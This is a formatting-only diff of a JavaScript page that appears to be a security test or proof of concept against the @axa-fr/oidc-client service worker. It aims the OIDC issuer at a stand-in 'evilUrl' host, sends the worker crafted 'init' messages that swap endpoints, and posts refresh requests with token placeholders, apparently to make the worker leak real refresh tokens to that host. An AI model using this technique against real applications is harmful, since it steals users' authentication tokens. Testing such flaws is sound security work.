@@ -3,11 +3,23 @@ import { OidcClient } from '@axa-fr/oidc-client';
 
 const { evilUrl, apiUrl, clientConfig } = window;
 const [issuer, configurationName] = [`${evilUrl}/oidc`, 'default'];
-const endpoints = { issuer, authorization_endpoint: `${issuer}/authorize`, token_endpoint: `${issuer}/token`, revocation_endpoint: `${issuer}/revoke`, userinfo_endpoint: `${issuer}/userinfo` };
+const endpoints = {
+  issuer,
+  authorization_endpoint: `${issuer}/authorize`,
+  token_endpoint: `${issuer}/token`,
+  revocation_endpoint: `${issuer}/revoke`,
+  userinfo_endpoint: `${issuer}/userinfo`,
+};
 const form = (members) => ({ method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(members).toString() });
 const placeholder = (what) => `${what}_SECURED_BY_OIDC_SERVICE_WORKER_default#tabId=default`;
 const message = (type, data = {}) => ({ type, configurationName, tabId: 'default', data });
-const known = { issuer, authorizationEndpoint: `${issuer}/authorize`, tokenEndpoint: `${issuer}/token`, revocationEndpoint: `${issuer}/revoke`, userInfoEndpoint: `${issuer}/userinfo` };
+const known = {
+  issuer,
+  authorizationEndpoint: `${issuer}/authorize`,
+  tokenEndpoint: `${issuer}/token`,
+  revocationEndpoint: `${issuer}/revoke`,
+  userInfoEndpoint: `${issuer}/userinfo`,
+};
 
 /** Messages of the worker's own kind. */
 window.words = [
@@ -20,7 +32,10 @@ const say = async (data) => {
   navigator.serviceWorker.controller.postMessage(data, [port2]);
   return answer;
 };
-const refresh = () => fetch(`${issuer}/token`, form({ grant_type: 'refresh_token', client_id: 'app', refresh_token: placeholder('REFRESH_TOKEN') })).then((response) => response.text());
+const refresh = () =>
+  fetch(`${issuer}/token`, form({ grant_type: 'refresh_token', client_id: 'app', refresh_token: placeholder('REFRESH_TOKEN') })).then((response) =>
+    response.text(),
+  );
 /** What its messages let a page say of the server, within the domains that are trusted. */
 window.tricks = ['revocationEndpoint', 'userInfoEndpoint', 'issuer'].map((endpoint) => async () => {
   await say(message('init', { oidcServerConfiguration: { ...known, [endpoint]: `${issuer}/token` }, oidcConfiguration: {} }));
@@ -41,8 +56,13 @@ window.enter = async () => {
   };
   const client = OidcClient.getOrCreate(() => fetch, place)(
     {
-      client_id: 'app', redirect_uri: clientConfig.redirect_uri, scope: 'openid read', authority: issuer, authority_configuration: endpoints,
-      service_worker_relative_url: window.vaultUrl, service_worker_only: true,
+      client_id: 'app',
+      redirect_uri: clientConfig.redirect_uri,
+      scope: 'openid read',
+      authority: issuer,
+      authority_configuration: endpoints,
+      service_worker_relative_url: window.vaultUrl,
+      service_worker_only: true,
     },
     configurationName,
   );
